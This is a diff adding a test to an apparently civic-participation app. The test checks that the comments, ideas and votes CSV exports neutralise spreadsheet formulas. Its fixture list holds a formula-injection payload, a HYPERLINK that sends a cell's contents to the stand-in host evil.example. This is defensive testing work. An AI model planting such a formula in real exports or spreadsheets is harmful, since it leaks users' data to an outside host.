@@ -163,6 +163,46 @@ def test_csv_cells_cannot_become_formulas(session, moderator, make_participant, 
     assert ",'=1+2 и новый парк," in text
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее о парке")', "@SUM(1+1) и новые скамейки"]
+
+
+def test_every_csv_export_neutralises_formulas(session, moderator, make_participant, api):
+    """comments.csv, ideas.csv and votes.csv, read back as a spreadsheet would: no cell starts a formula."""
+    from archive.exports import _FORMULA_START
+    from ideas import operations
+    from ideas.models import Stage
+
+    operations.session_update(session=session, actor=moderator, voting_method="agree")
+    person = make_participant(session)
+    ideas = [operations.idea_post(session=session, text=text, author=person) for text in FORMULAS]
+    for idea in ideas:
+        idea.refresh_from_db()
+        if idea.status != "published":
+            operations.idea_moderate(idea=idea, actor=moderator, status="published")
+    operations.group_create(session=session, actor=moderator, title="-Группа+", idea_ids=[ideas[0].pk])
+    operations.session_set_stage(session=session, actor=moderator, stage=Stage.VOTING)
+    operations.vote_cast(participant=person, idea_id=ideas[0].pk, value=-1)
+    for stage in (Stage.RESULTS, Stage.ARCHIVED):
+        operations.session_set_stage(session=session, actor=moderator, stage=stage)
+    session.refresh_from_db()
+    client = api(None)
+    base = f"/api/v1/archive/{session.archive.pk}"
+
+    comments = read_csv(client.get(f"{base}/comments.csv"))
+    assert sorted(row["comment-body"] for row in comments) == sorted("'" + text for text in FORMULAS)
+    ideas_rows = read_csv(client.get(f"{base}/ideas.csv"))
+    assert sorted(row["text"] for row in ideas_rows) == sorted("'" + text for text in FORMULAS)
+    assert "'-Группа+" in {row["group"] for row in ideas_rows}
+    votes = read_csv(client.get(f"{base}/votes.csv"))
+    assert [row["vote"] for row in votes] == ["-1"]  # a number, left as it is
+
+    for rows in (comments, ideas_rows):
+        for row in rows:
+            for column, cell in row.items():
+                if not cell.lstrip("-").isdigit():
+                    assert not cell.startswith(_FORMULA_START), (column, cell)
+
+
 def test_forum_less_session_archives(moderator, make_participant):
     from ideas import operations
     from ideas.models import Stage
